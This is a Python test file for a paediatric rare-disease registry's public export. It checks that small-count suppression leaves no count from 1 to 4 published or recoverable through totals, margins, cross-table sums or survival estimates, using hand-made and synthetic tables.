"""`export_public`: no published count from 1 to 4, and no withheld count recomputable from what is published."""

from __future__ import annotations

import csv
import io
import itertools
import shutil
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pandas as pd
import pytest
from marts_fixture import MartsWarehouse, built_warehouse

from etl.load.marts import _PUBLIC_ROWS, PUBLIC_TABLES, export_public
from etl.load.suppression import (
    Constraint,
    GroupTotals,
    PublicTable,
    Relation,
    TotalsOf,
    generalise,
    protect,
    suppress,
    suppress_tables,
)
from etl.load.survival import kaplan_meier

MIN_CELL = 5


# -- the algorithm on tiny hand-made tables ----------------------------------------------------------

def test_a_cell_recoverable_from_its_total_is_protected_by_a_second_one():
    table = PublicTable("by_disease", dimensions=("disease",), counts=("n_patients",), has_totals=True)
    frame = pd.DataFrame({"disease": ["A", "B", "C", None], "n_patients": [3, 10, 12, 25]})
    published = suppress(frame, table, MIN_CELL).set_index("disease")
    # A alone withheld would be 25 - 10 - 12 = 3: the smallest other cell, B, goes too; the total stays.
    assert published.n_patients.isna().to_dict() == {"A": True, "B": True, "C": False, "all": False}
    assert published.loc["all", "n_patients"] == 25
    assert published.loc["A", "suppressed_cells"] == "n_patients" and published.loc["C", "suppressed_cells"] == ""


def test_withheld_cells_whose_sum_the_total_gives_are_not_left_adding_up_to_a_small_count():
    # board_advice_summary of a 1,500-person registry, 2024: two subgroups of one case each, withheld,
    # and the year's total shown: 36 less the subgroups shown said "2 cases in I(e) or unknown".
    table = PublicTable("by_disease", dimensions=("disease",), counts=("n_cases",), has_totals=True)
    frame = pd.DataFrame({"disease": ["I(a)", "I(b)", "I(e)", "unknown", None], "n_cases": [22, 12, 1, 1, 36]})
    published = suppress(frame, table, MIN_CELL).set_index("disease")
    assert published.n_cases.isna().to_dict() == {"I(a)": False, "I(b)": True, "I(e)": True, "unknown": True,
                                                  "all": False}
    assert_nothing_recoverable(published.reset_index(), table)


def test_parts_withheld_within_a_row_do_not_add_up_to_a_small_count():
    # response, irinotecan: 11 assessed, 7 stable, 0 and 0 shown: the complete, partial and progressing
    # lines, each withheld, made 4 together.
    table = next(t for t in PUBLIC_TABLES if t.name == "response")
    counts = {"n_assessed": 11, "n_complete": 1, "n_partial": 2, "n_stable": 7, "n_progression": 1,
              "n_no_response": 0, "n_not_evaluable": 0, "n_objective_response": 3}
    frame = pd.DataFrame([{"regimen": "irinotecan", "advice_group": "not_compared", "timepoint": "best",
                           **counts, "orr": 3 / 11, "orr_ci_lower": 0.1, "orr_ci_upper": 0.6}])
    published = suppress(frame, table, MIN_CELL)
    assert pd.isna(published.n_stable[0]) and published.n_assessed[0] == 11
    assert_nothing_recoverable(published, table)


def test_a_response_withheld_does_not_come_back_from_the_objective_responses_and_the_other_classes():
    # A hunt: complete and partial responses withheld, their sum n_objective_response shown: 24 assessed less
    # 17 objective, 5 stable and two zeros gave back the 2 progressions withheld.
    table = next(t for t in PUBLIC_TABLES if t.name == "response")
    counts = {"n_assessed": 24, "n_complete": 14, "n_partial": 3, "n_stable": 5, "n_progression": 2,
              "n_no_response": 0, "n_not_evaluable": 0, "n_objective_response": 17}
    frame = pd.DataFrame([{"regimen": "crizotinib", "advice_group": "not_compared", "timepoint": "best",
                           **counts, "orr": 17 / 24, "orr_ci_lower": 0.5, "orr_ci_upper": 0.9}])
    published = suppress(frame, table, MIN_CELL).iloc[0]
    assert pd.isna(published.n_progression)
    unknown = [c for c in ("n_objective_response", "n_stable", "n_progression", "n_no_response", "n_not_evaluable")
               if pd.isna(published[c])]
    assert pd.isna(published.n_assessed) or len(unknown) > 1, published

def test_within_a_row_parts_of_a_total_and_the_rates_that_derive_from_them_are_protected():
    table = PublicTable("toxicity", dimensions=("drug",), counts=("n_exposed", "n_severe"),
                        relations=(Relation("n_exposed", ("n_severe",)),), derived={"rate": ("n_severe", "n_exposed")})
    frame = pd.DataFrame({"drug": ["x", "y", "z"], "n_exposed": [10, 40, 3], "n_severe": [8, 20, 0],
                          "rate": [0.8, 0.5, 0.0]})
    published = suppress(frame, table, MIN_CELL).set_index("drug")
    # x: 10 exposed and 8 severe would tell that 2 were not: the part goes, the total stays.
    assert pd.isna(published.loc["x", "n_severe"]) and published.loc["x", "n_exposed"] == 10
    assert pd.isna(published.loc["x", "rate"])
    assert published.loc["y"].tolist()[:3] == [40, 20, 0.5]
    # z: 3 exposed is small; 0 severe names nobody and stays; the rate would give the total back.
    assert pd.isna(published.loc["z", "n_exposed"]) and published.loc["z", "n_severe"] == 0
    assert pd.isna(published.loc["z", "rate"])


def test_an_exact_sum_within_a_row_never_leaves_one_unknown():
    table = PublicTable("response", dimensions=("drug",), counts=("n", "n_yes", "n_no"),
                        relations=(Relation("n", ("n_yes", "n_no"), exact=True),))
    published = suppress(pd.DataFrame({"drug": ["x"], "n": [10], "n_yes": [7], "n_no": [3]}), table, MIN_CELL)
    assert published.iloc[0][["n", "n_yes", "n_no"]].isna().tolist() == [False, True, True]


def test_complementary_suppression_cascades_through_a_two_way_table_with_margins():
    table = PublicTable("cases", dimensions=("disease", "year"), counts=("n",), has_totals=True)
    cells = {("A", 2020): 2, ("A", 2021): 9, ("B", 2020): 8, ("B", 2021): 7}
    rows = [{"disease": d, "year": y, "n": n} for (d, y), n in cells.items()]
    rows += [{"disease": d, "year": None, "n": sum(n for (dd, _), n in cells.items() if dd == d)} for d in "AB"]
    rows += [{"disease": None, "year": y, "n": sum(n for (_, yy), n in cells.items() if yy == y)} for y in (2020, 2021)]
    rows.append({"disease": None, "year": None, "n": sum(cells.values())})
    published = suppress(pd.DataFrame(rows), table, MIN_CELL)
    assert_nothing_recoverable(published, table)
    assert published.n.isna().sum() >= 4  # the 2 needs a partner in its row and in its column, and they in theirs


def test_a_row_totalling_each_grouping_protects_a_small_group_in_every_grouping():
    # survival_landmark's grouping 'all' row sums the ICCC-3 groups and, apart, the advice groups.
    table = PublicTable("landmark", dimensions=("grouping", "group_value"), counts=("n_patients",),
                        group_totals=(GroupTotals("grouping", "all", within=()),))
    frame = pd.DataFrame({"grouping": ["all", "iccc3_group", "iccc3_group", "iccc3_group", "advice_group",
                                       "advice_group"],
                          "group_value": ["all", "I", "II", "III", "followed", "not_followed"],
                          "n_patients": [30, 3, 12, 15, 14, 16]})
    published = suppress(frame, table, MIN_CELL).set_index("group_value")
    # I alone withheld would be 30 - 12 - 15 = 3: II goes too; the advice groups add up on their own.
    assert published.n_patients.isna().to_dict() == {"all": False, "I": True, "II": True, "III": False,
                                                     "followed": False, "not_followed": False}
    assert_nothing_recoverable(published.reset_index(), table)


def test_a_table_totalling_another_is_suppressed_with_it():
    # board_response counts response's lines, all regimens together: alone, each table kept its own cells,
    # and 25 followed lines assessed less the regimens shown gave the 3 of the regimen withheld.
    tables = {t.name: t for t in PUBLIC_TABLES}
    response, board = tables["response"], tables["board_response"]
    assert TotalsOf("response", ("advice_group", "timepoint"),
                    ("n_assessed", "n_objective_response")) in board.totals_of
    lines = {"crizotinib": (0, 0, 0, 3, 0), "larotrectinib": (8, 0, 0, 2, 0),  # CR, PR, SD, PD, NR
             "dabrafenib + trametinib": (6, 6, 0, 0, 0)}
    frames = {
        "response": pd.DataFrame([{"regimen": regimen, "advice_group": "followed", "timepoint": "cycle1",
                                   "n_assessed": sum(n), "n_complete": n[0], "n_partial": n[1], "n_stable": n[2],
                                   "n_progression": n[3], "n_no_response": n[4], "n_not_evaluable": 0,
                                   "n_objective_response": n[0] + n[1], "orr": None, "orr_ci_lower": None,
                                   "orr_ci_upper": None} for regimen, n in lines.items()]),
        "board_response": pd.DataFrame({"advice_group": ["followed"], "timepoint": ["cycle1"], "n_submissions": [40],
                                        "n_treated": [30], "n_assessed": [25], "n_objective_response": [20],
                                        "orr": [0.8], "orr_ci_lower": [0.6], "orr_ci_upper": [0.9]})}
    shown = suppress_tables(frames, (response, board), MIN_CELL)
    regimens, total = shown["response"], shown["board_response"].iloc[0]
    for count in ("n_assessed", "n_objective_response"):
        unknown = regimens[count].isna().sum() + int(pd.isna(total[count]))
        recovered = 0 if pd.isna(total[count]) else total[count] - regimens[count].sum()
        assert unknown != 1 and not 0 < recovered < MIN_CELL, (count, regimens[count].tolist(), total.to_dict())
    with pytest.raises(ValueError, match="board_response totals response"):
        suppress(frames["board_response"], board, MIN_CELL)


def test_the_patients_who_left_between_two_landmarks_are_not_a_small_count():
    # enrolment EFS, group XII of 400 persons: 12 at risk at 3 years, 10 at 5, both shown: 2 children had
    # an event or were censored in between, as n_patients less n_at_risk would have told before 3 years.
    table = next(t for t in PUBLIC_TABLES if t.name == "survival_landmark")
    frame = pd.DataFrame({"origin": "enrolment", "endpoint": "EFS", "grouping": "iccc3_group", "group_value": "XII",
                          "years": [1, 2, 3, 5], "n_patients": 30, "n_at_risk": [20, 18, 15, 12],
                          "n_events": [10, 12, 15, 18], "n_censored": 0, "n_events_at_landmark": 0,
                          "survival": [0.8, 0.75, 0.7, 0.6], "ci_lower": 0.5,
                          "ci_upper": 0.9})
    published = suppress(frame, table, MIN_CELL)
    assert not _shrinking_problems(published, "n_at_risk", "years", ("origin", "endpoint", "grouping", "group_value"))
    assert published.n_at_risk.notna().any()
    # diagnosis, group XI: 71 at risk of death at 3 years, 70 of an EFS event: one child alive after a relapse
    both = pd.concat([frame.assign(endpoint="OS", n_at_risk=[80, 75, 71, 60]),
                      frame.assign(endpoint="EFS", n_at_risk=[79, 74, 70, 58])], ignore_index=True)
    published = suppress(both, table, MIN_CELL)
    assert not _shrinking_problems(published, "n_at_risk", "endpoint", ("origin", "grouping", "group_value", "years"),
                                   order=("OS", "EFS"))


SURVIVAL = next(t for t in PUBLIC_TABLES if t.name == "survival_landmark")
ESTIMATE = ["survival", "ci_lower", "ci_upper"]


def _landmarks(rows: list[tuple[Any, ...]]) -> pd.DataFrame:
    """survival_landmark rows (origin, endpoint, grouping, group_value, years, n_patients, n_at_risk, n_events),
    the others censored before the landmark, none with an event on its day, with the estimate and its interval
    as no censoring would make them."""
    frame = pd.DataFrame(rows, columns=["origin", "endpoint", "grouping", "group_value", "years", "n_patients",
                                        "n_at_risk", "n_events"])
    survival = 1 - frame.n_events / frame.n_patients
    return frame.assign(n_censored=frame.n_patients - frame.n_at_risk - frame.n_events, n_events_at_landmark=0,
                        survival=survival, ci_lower=survival * 0.8, ci_upper=survival ** 0.5)


def test_an_estimate_that_tells_a_few_events_or_censored_is_withheld_with_its_interval():
    # enrolment EFS, group XII of 400 persons at 1 year: 14 patients and 9 at risk shown with 71.4%: 14 * (1 - 0.714)
    # = 4 children had an event, and so 1 was censored. 30, 20 and 8 events: 2 censored; 109, 45 and 60: 4 censored
    # (the estimate goes, not the 45 at risk, smaller than the 60 events). 40, 30 and 10: shown.
    frame = _landmarks([("enrolment", "EFS", "iccc3_group", group, 1, n, at_risk, events)
                        for group, n, at_risk, events in [("XII", 14, 9, 4), ("XI", 30, 20, 8), ("I", 109, 45, 60),
                                                          ("X", 40, 30, 10)]])
    published = suppress(frame, SURVIVAL, MIN_CELL).set_index("group_value")
    assert published[ESTIMATE].isna().all(axis=1).to_dict() == {"XII": True, "XI": True, "I": True, "X": False}
    assert published[["n_patients", "n_at_risk"]].notna().all().all()  # the counts stay: only the estimate told
    assert published.loc["XII", "suppressed_cells"] == "ci_lower;ci_upper;survival"
    assert not set(SURVIVAL.implied) & set(published.columns)  # never written


def test_an_estimate_withheld_does_not_come_back_from_the_all_row_a_later_landmark_or_the_other_endpoint():
    within = ("origin", "endpoint", "grouping", "group_value")
    # the 'all' row's 12 events less group II's 9 are group I's 3 (censored: 10, 5 and 5)
    groups = _landmarks([("diagnosis", "OS", "all", "all", 1, 60, 38, 12),
                         ("diagnosis", "OS", "iccc3_group", "I", 1, 20, 12, 3),
                         ("diagnosis", "OS", "iccc3_group", "II", 1, 40, 26, 9)])
    # the 12 events by 2 years less the 10 by 1 year: 2 children had one in between
    landmarks = _landmarks([("diagnosis", "OS", "all", "all", 1, 60, 50, 10),
                            ("diagnosis", "OS", "all", "all", 2, 60, 40, 12)])
    # 13 EFS events less 10 deaths: 3 children relapsed and were alive (or censored) at 1 year
    endpoints = _landmarks([("diagnosis", "OS", "all", "all", 1, 60, 50, 10),
                            ("diagnosis", "EFS", "all", "all", 1, 60, 42, 13)])
    for frame in (groups, landmarks, endpoints):
        published = suppress(frame, SURVIVAL, MIN_CELL)
        assert published[["n_patients", "n_at_risk"]].notna().all().all()
        readable = _as_read(published, frame[list(SURVIVAL.implied)])
        assert_nothing_recoverable(readable, SURVIVAL)
        assert not _shrinking_problems(readable, "n_events", "years", within, order=(5, 3, 2, 1))
        assert not _shrinking_problems(readable, "n_events", "endpoint", ("origin", "grouping", "group_value", "years"),
                                       order=("EFS", "OS"))
    assert pd.isna(suppress(groups, SURVIVAL, MIN_CELL).survival).sum() == 2


def _as_read(published: pd.DataFrame, implied: pd.DataFrame) -> pd.DataFrame:
    """The published rows with the counts a reader recovers from what derives from them (the events from the
    estimate shown: with no censoring, n_patients * (1 - survival); with censoring nearly), withheld with it."""
    shown = published.copy()
    for count in implied.columns:
        derived = [column for column, sources in SURVIVAL.derived.items() if count in sources]
        shown[count] = implied[count].where(published[derived].notna().any(axis=1)).to_numpy()
    return shown


def test_quartiles_of_fewer_registrations_than_four_bands_of_five_are_withheld():
    # SACHA, FR01, 2020: 5 registrations with their time known, quartiles 39, 53 and 249 days: the 2nd, 3rd and
    # 4th children's delays. Each quarter must hold five registrations: 20 at least.
    table = next(t for t in PUBLIC_TABLES if t.name == "registry_activity")
    quartiles = ["days_to_registration_p25", "days_to_registration_median", "days_to_registration_p75"]
    timed = [5, 19, 20, 0]
    frame = pd.DataFrame({"study_id": "SACHA", "centre_id": "FR01", "country": "FR",
                          "registration_year": [2020, 2021, 2022, 2023], "n_registrations": [5, 19, 20, 6],
                          "n_patients": [5, 19, 20, 6], "n_with_diagnosis_date": timed,
                          **{q: [days] * 3 + [None] for q, days in zip(quartiles, (39.0, 53.0, 249.0), strict=True)}})
    published = suppress(frame, table, MIN_CELL)
    assert published[quartiles].isna().all(axis=1).tolist() == [True, True, False, True]
    assert published.n_with_diagnosis_date.tolist() == timed  # the counts stay
    # 6 registrations without a time have no quartile: missing, not withheld
    assert published.suppressed_cells.tolist() == [";".join(sorted(quartiles))] * 2 + ["", ""]


def test_protect_withholds_nothing_when_no_cell_is_small():
    values = {(0, "n"): 10, (1, "n"): 12, (2, "n"): 22}
    constraints = [Constraint((2, "n"), ((0, "n"), (1, "n")))]
    assert protect(values, set(values), constraints, MIN_CELL) == set()


_BOARD_ADVICE_400 = (  # marts.board_advice_summary of a synthetic 400-person warehouse (a hunt's: seed 42)
    ",,116,116,114,105,9;I(a),,75,75,73,68,5;I(b),,27,27,27,24,3;I(d),,9,9,9,8,1;I(e),,4,4,4,4,0;"
    "unknown,,1,1,1,1,0;I(a),2018,4,4,4,4,0;I(a),2019,7,7,7,7,0;I(a),2020,9,9,9,8,1;I(a),2021,8,8,8,8,0;"
    "I(a),2022,11,11,11,10,1;I(a),2023,9,9,9,8,1;I(a),2024,10,10,10,9,1;I(a),2025,10,10,10,9,1;"
    "I(a),2026,7,7,5,5,0;I(b),2018,2,2,2,1,1;I(b),2019,5,5,5,5,0;I(b),2020,3,3,3,3,0;I(b),2021,3,3,3,3,0;"
    "I(b),2022,4,4,4,4,0;I(b),2024,6,6,6,4,2;I(b),2025,3,3,3,3,0;I(b),2026,1,1,1,1,0;I(d),2018,1,1,1,1,0;"
    "I(d),2019,1,1,1,1,0;I(d),2020,1,1,1,1,0;I(d),2021,2,2,2,2,0;I(d),2022,1,1,1,1,0;I(d),2024,1,1,1,1,0;"
    "I(d),2025,1,1,1,1,0;I(d),2026,1,1,1,0,1;I(e),2020,1,1,1,1,0;I(e),2023,1,1,1,1,0;I(e),2025,2,2,2,2,0;"
    "unknown,2023,1,1,1,1,0;,2018,7,7,7,6,1;,2019,13,13,13,13,0;,2020,14,14,14,13,1;,2021,13,13,13,13,0;"
    ",2022,16,16,16,15,1;,2023,11,11,11,10,1;,2024,17,17,17,14,3;,2025,16,16,16,15,1;,2026,9,9,7,6,1")


def test_no_small_count_is_bounded_by_several_relations_together():
    """A hunt: a year's `all` row less one subgroup's n_follow_known and another's n_cases bounded a third's
    withheld cases from above, and its followed from below: both 1, each relation alone telling nothing."""
    table = next(t for t in PUBLIC_TABLES if t.name == "board_advice_summary")
    frame = pd.DataFrame([[None if v == "" else v for v in row.split(",")] for row in _BOARD_ADVICE_400.split(";")],
                         columns=["iccc3_subgroup", "recommendation_year", *table.counts])
    frame[list(table.counts)] = frame[list(table.counts)].astype(int)
    frame["proportion_followed"] = frame.n_followed / frame.n_follow_known
    published = suppress(frame, table, MIN_CELL)
    assert not _bounded_small(published, frame, table)


def _bounded_small(published: pd.DataFrame, truth: pd.DataFrame, table: PublicTable) -> list[str]:
    """The withheld small cells a reader bounds within 1 to MIN_CELL - 1 by a linear program over every relation
    at once: each row's (a total at least its parts, exactly their sum if exact) and each `all` row's (the sum
    of the rows it totals), every count at least 0."""
    from scipy.optimize import linprog

    hidden = [(row, c) for row in range(len(published)) for c in table.counts if pd.isna(published.at[row, c])]
    index = {cell: i for i, cell in enumerate(hidden)}
    equal, upper = [], []  # (coefficients, constant) of sum(coefficient * cell) + constant == 0, or <= 0

    def term(terms: list[tuple[int, tuple[int, str]]], into: list) -> None:
        row_of = np.zeros(len(hidden))
        constant = 0.0
        for sign, cell in terms:
            if cell in index:
                row_of[index[cell]] += sign
            else:
                constant += sign * float(published.at[cell])
        into.append((row_of, constant))

    dims = list(table.dimensions)
    for row in range(len(published)):
        for relation in table.relations:
            terms = [(1, (row, relation.total))] + [(-1, (row, p)) for p in relation.parts]
            term(terms, equal) if relation.exact else term([(-s, c) for s, c in terms], upper)
        for dim in dims:
            if published.at[row, dim] != "all":
                continue
            others = [d for d in dims if d != dim]
            children = [r for r in range(len(published)) if published.at[r, dim] != "all"
                        and all(published.at[r, d] == published.at[row, d] for d in others)]
            for count in table.counts:
                term([(1, (row, count))] + [(-1, (r, count)) for r in children], equal)
    a_eq = np.array([t for t, _ in equal]) if equal else None
    b_eq = np.array([-c for _, c in equal]) if equal else None
    a_ub = np.array([t for t, _ in upper]) if upper else None
    b_ub = np.array([-c for _, c in upper]) if upper else None
    found = []
    for (row, column), i in index.items():
        value = truth.at[row, column]
        if not 0 < value < MIN_CELL:
            continue
        objective = np.zeros(len(hidden))
        objective[i] = 1
        bounds = [(0, 10**6)] * len(hidden)
        low = linprog(objective, A_ub=a_ub, b_ub=b_ub, A_eq=a_eq, b_eq=b_eq, bounds=bounds, method="highs")
        high = linprog(-objective, A_ub=a_ub, b_ub=b_ub, A_eq=a_eq, b_eq=b_eq, bounds=bounds, method="highs")
        if low.fun > 1 - 1e-6 and -high.fun < MIN_CELL - 1e-6:
            found.append(f"{published.loc[row, dims].to_dict()} {column}: {low.fun:.1f} to {-high.fun:.1f}")
    return found

# -- an independent check of a published table -------------------------------------------------------

def assert_nothing_recoverable(published: pd.DataFrame, table: PublicTable) -> None:
    """What a reader can do with the published file: subtract. No small or withheld cell may come out."""
    problems = []
    for row in published.to_dict("records"):
        for column in table.cells:  # the implied too, as a reader recovers them (_as_read)
            value = row[column]
            if not pd.isna(value):
                assert not 0 < value < MIN_CELL, f"{table.name}: {column} = {value} published"
        for relation in table.relations:
            cells = [row[relation.total]] + [row[p] for p in relation.parts]
            unknown = sum(pd.isna(c) for c in cells)
            if relation.exact and unknown == 1:
                problems.append(f"{table.name} {row}: {relation.total} = sum{relation.parts} reveals the withheld cell")
            if not pd.isna(cells[0]) and (unknown or not relation.exact):
                remainder = cells[0] - sum(c for c in cells[1:] if not pd.isna(c))  # what the parts not shown make
                if 0 < remainder < MIN_CELL:
                    problems.append(f"{table.name}: {relation.total} - {relation.parts} = {remainder} in {row}")
        for derived, counts in table.derived.items():
            if not pd.isna(row[derived]) and any(pd.isna(row[c]) for c in counts):
                problems.append(f"{table.name}: {derived} shown while one of {counts} is withheld in {row}")
    if table.has_totals:
        problems += _margin_problems(published, table)
    problems += _group_total_problems(published, table)
    assert not problems, "\n".join(problems[:10])


def _shrinking_problems(published: pd.DataFrame, count: str, dimension: str, within: tuple[str, ...],
                        order: tuple[Any, ...] | None = None) -> list[str]:
    """Two rows of a count that only shrinks (at risk from landmark to landmark) whose difference is small."""
    problems = []
    rank = published[dimension] if order is None else published[dimension].map(order.index)
    for key, rows in published.assign(_rank=rank).sort_values("_rank").groupby(list(within)):
        shown = rows[count].dropna().tolist()
        for earlier, later in itertools.combinations(shown, 2):
            if 0 < earlier - later < MIN_CELL:
                problems.append(f"{key}: {count} {earlier} then {later}")
    return problems


def _group_total_problems(published: pd.DataFrame, table: PublicTable) -> list[str]:
    """A row labelled as a total (grouping 'all') less the shown groups of one grouping gives a lone withheld one."""
    problems = []
    for totals in table.group_totals:
        for _, total in published[published[totals.dimension] == totals.label].iterrows():
            same = (published[list(totals.within)] == total[list(totals.within)]).all(axis=1)
            groups = published[same & (published[totals.dimension] != totals.label)]
            for grouping, children in groups.groupby(totals.dimension):
                for count in table.cells:
                    unknown = int(pd.isna(total[count])) + int(children[count].isna().sum())
                    if unknown == 1:
                        problems.append(f"{table.name}: the {count} total of {grouping} reveals a withheld cell at "
                                        f"{total[list(totals.within)].to_dict()}")
                    elif unknown and not pd.isna(total[count]) and 0 < total[count] - children[count].sum() < MIN_CELL:
                        problems.append(f"{table.name}: the {count} cells of {grouping} withheld add up to a small "
                                        f"count at {total[list(totals.within)].to_dict()}")
                    elif unknown == 0 and total[count] < children[count].sum():
                        problems.append(f"{table.name}: {grouping} adds up to more than its total {total.to_dict()}")
    return problems


def _margin_problems(published: pd.DataFrame, table: PublicTable) -> list[str]:
    problems = []
    dims = list(table.dimensions)
    for _, total in published.iterrows():
        for dim in dims:
            if total[dim] != "all":
                continue
            others = [d for d in dims if d != dim]
            children = published[(published[dim] != "all")
                                 & (published[others] == total[others]).all(axis=1)] if others else \
                published[published[dim] != "all"]
            for count in table.counts:
                unknown = int(pd.isna(total[count])) + int(children[count].isna().sum())
                where = total[others].to_dict() if others else "overall"
                if len(children) and unknown == 1:
                    problems.append(f"{table.name}: the {count} total over {dim} reveals a withheld cell at {where}")
                elif len(children) and unknown and not pd.isna(total[count]) \
                        and 0 < total[count] - children[count].sum() < MIN_CELL:
                    problems.append(f"{table.name}: the {count} cells over {dim} withheld add up to a small count "
                                    f"at {where}")
    return problems


# -- the real public export --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def public(tmp_path_factory: pytest.TempPathFactory, synthetic_run: Any) -> tuple[MartsWarehouse, list[Path]]:
    built = built_warehouse(tmp_path_factory, synthetic_run)
    return built, export_public(built.warehouse, tmp_path_factory.mktemp("public"), min_cell=MIN_CELL)


def test_the_public_export_holds_the_aggregate_marts_only_as_csv_and_parquet(public):
    _, paths = public
    expected = [f"{t.name}.{ext}" for t in PUBLIC_TABLES for ext in ("csv", "parquet")]
    assert sorted(p.name for p in paths) == sorted(expected)
    assert not {"patient_summary", "board_advice", "treatment_line", "response_line", "survival", "survival_km"} & {
        p.stem for p in paths}
    assert not [p for p in paths[0].parent.iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize("table", PUBLIC_TABLES, ids=lambda t: t.name)
def test_no_published_cell_is_below_five_nor_recomputable(public, table):
    built, paths = public
    folder = paths[0].parent
    mart = built.query(f"SELECT * FROM marts.{table.name}")
    for published in (pd.read_csv(folder / f"{table.name}.csv", keep_default_na=False, na_values=[""]),
                      pd.read_parquet(folder / f"{table.name}.parquet")):
        assert len(published) == len(mart)
        counts = published[list(table.counts)]
        assert not ((counts > 0) & (counts < MIN_CELL)).any().any()
        if table.has_totals:
            for dim in table.dimensions:
                published[dim] = published[dim].astype(str)
        if table.implied:  # what a reader recovers from the estimates shown: the events before each landmark
            published = _as_read(published, _implied_by_landmark(built))
        assert_nothing_recoverable(published, table)
        if table.name == "survival_landmark":  # the patients who left between two landmarks, or alive after an event
            assert not _shrinking_problems(published, "n_at_risk", "years", ("origin", "endpoint", "grouping",
                                                                             "group_value"))
            assert not _shrinking_problems(published, "n_at_risk", "endpoint", ("origin", "grouping", "group_value",
                                                                                "years"), order=("OS", "EFS"))
            # the events between two landmarks, and the EFS events of the patients alive (or censored) after them
            assert not _shrinking_problems(published, "n_events", "years", ("origin", "endpoint", "grouping",
                                                                            "group_value"), order=(5, 3, 2, 1))
            assert not _shrinking_problems(published, "n_events", "endpoint", ("origin", "grouping", "group_value",
                                                                               "years"), order=("EFS", "OS"))
    # Suppression withholds, it never changes a figure: what is shown equals the mart.
    shown = pd.read_parquet(folder / f"{table.name}.parquet")
    for column in table.counts:
        kept = shown[column].notna()
        assert (shown.loc[kept, column].to_numpy() == mart.loc[kept, column].to_numpy()).all()
        withheld = shown.loc[~kept, "suppressed_cells"].str.split(";")
        assert all(column in listed for listed in withheld), f"a withheld {column} is not listed in suppressed_cells"
    # The rare-disease figures are small: the export must withhold something, and still publish something.
    assert shown[list(table.counts)].isna().any().any() and shown[list(table.counts)].notna().any().any()


def _implied_by_landmark(built: MartsWarehouse) -> pd.DataFrame:
    """The counts each marts.survival_landmark row's estimate implies, in its order, from the Kaplan-Meier steps:
    the events and the censored before its landmark (n_at_risk counts those followed for at least its days), and
    the events on its day."""
    key = ["origin", "endpoint", "grouping", "group_value"]
    landmarks = built.query("SELECT * FROM marts.survival_landmark")
    steps = built.query("SELECT * FROM marts.survival_km")
    merged = landmarks.reset_index().merge(steps[[*key, "time_days", "n_events", "n_censored"]], on=key,
                                           suffixes=("", "_step"))
    before = merged[merged.time_days_step < merged.time_days].groupby("index")
    on_the_day = merged[merged.time_days_step == merged.time_days].groupby("index")
    return pd.DataFrame({"n_events": before.n_events.sum(), "n_censored": before.n_censored.sum(),
                         "n_events_at_landmark": on_the_day.n_events.sum()}).reindex(landmarks.index).fillna(
        0).astype(int)


def test_no_survival_estimate_shown_tells_a_few_events_or_censored(public):
    built, paths = public
    mart = built.query("SELECT * FROM marts.survival_landmark").join(_implied_by_landmark(built))
    shown = pd.read_parquet(paths[0].parent / "survival_landmark.parquet")
    assert (mart.n_patients == mart.n_at_risk + mart.n_events + mart.n_censored).all()  # every patient once
    telling = mart[list(SURVIVAL.implied)].apply(lambda count: count.between(1, MIN_CELL - 1)).any(axis=1)
    # the 400 persons have such estimates over counts that are shown (enrolment EFS of group XII: 14, 9 at risk, 4
    # events), and the export withholds each, and only the estimate, not its counts
    counted = mart.n_patients.ge(MIN_CELL) & mart.n_at_risk.ge(MIN_CELL) & mart.survival.notna()
    assert (telling & counted).sum() >= 5
    assert shown.loc[telling, ESTIMATE].isna().all().all()
    assert shown.loc[telling & counted & (mart.n_patients - mart.n_at_risk).ge(MIN_CELL), "n_at_risk"].notna().any()
    assert shown.survival.notna().any()  # some survival is still published


def test_no_quartile_is_shown_over_fewer_than_twenty_registrations(public):
    built, paths = public
    mart = built.query("SELECT * FROM marts.registry_activity")
    shown = pd.read_parquet(paths[0].parent / "registry_activity.parquet")
    few = mart.n_with_diagnosis_date < 4 * MIN_CELL
    quartiles = ["days_to_registration_p25", "days_to_registration_median", "days_to_registration_p75"]
    assert (few & mart.n_with_diagnosis_date.ge(MIN_CELL)).any()  # the 400 persons have quartiles over 5 to 19
    assert shown.loc[few, quartiles].isna().all().all()
    assert shown.loc[few & mart.days_to_registration_median.notna(), "suppressed_cells"].str.contains(
        "days_to_registration_median").all()


# What a reader can add up across tables, whatever PUBLIC_TABLES declares: board_response counts response's lines.
CROSS_TOTALS = {"board_response": (TotalsOf("response", ("advice_group", "timepoint"),
                                            ("n_assessed", "n_objective_response")),)}


def test_no_public_table_gives_back_a_cell_another_withholds(public):
    built, paths = public
    folder = paths[0].parent
    problems = []
    for table in PUBLIC_TABLES:
        for totals in CROSS_TOTALS.get(table.name, ()):
            names = (table.name, totals.table)
            mart_total, mart_parts = (built.query(f"SELECT * FROM marts.{name}") for name in names)
            shown_total, shown_parts = (pd.read_parquet(folder / f"{name}.parquet") for name in names)
            on = list(totals.on)
            for count in totals.counts:  # what the declaration says holds in the marts
                assert (mart_parts.groupby(on)[count].sum().reindex(pd.MultiIndex.from_frame(mart_total[on]),
                                                                    fill_value=0).to_numpy()
                        == mart_total[count].to_numpy()).all(), f"{table.name}.{count} is no total of {totals.table}"
            for _, total in shown_total.iterrows():
                parts = shown_parts[(shown_parts[on] == total[on]).all(axis=1)]
                for count in totals.counts:
                    unknown = int(pd.isna(total[count])) + int(parts[count].isna().sum())
                    recovered = 0 if pd.isna(total[count]) else total[count] - parts[count].sum()
                    if unknown == 1 or (unknown and 0 < recovered < MIN_CELL):
                        problems.append(f"{table.name} {total[on].to_dict()}: {count} gives back {totals.table}'s")
    assert not problems, problems


# Counts a table repeats on several rows: shown on one, withheld on another, they would be no secret.
REPEATED = {"survival_landmark": ("n_patients", ("origin", "endpoint", "grouping", "group_value")),
            "board_response": ("n_submissions", ("advice_group",)),
            "actionable_events": ("n_patients_profiled", ("source_id", "iccc3_subgroup"))}


@pytest.mark.parametrize("name", REPEATED)
def test_a_count_repeated_on_several_rows_is_withheld_on_all_or_none(public, name):
    _, paths = public
    count, key = REPEATED[name]
    shown = pd.read_parquet(paths[0].parent / f"{name}.parquet")
    split = shown.groupby(list(key))[count].agg(lambda values: values.isna().any() and values.notna().any())
    assert not split.any(), split[split].index.tolist()


def test_survival_is_published_from_every_origin_the_diagnosis_too(public):
    built, paths = public
    shown = pd.read_parquet(paths[0].parent / "survival_landmark.parquet")
    origins = set(built.query("SELECT DISTINCT origin FROM marts.survival").origin)
    assert "diagnosis" in origins and set(shown.origin) == origins
    diagnosed = shown[shown.origin == "diagnosis"]
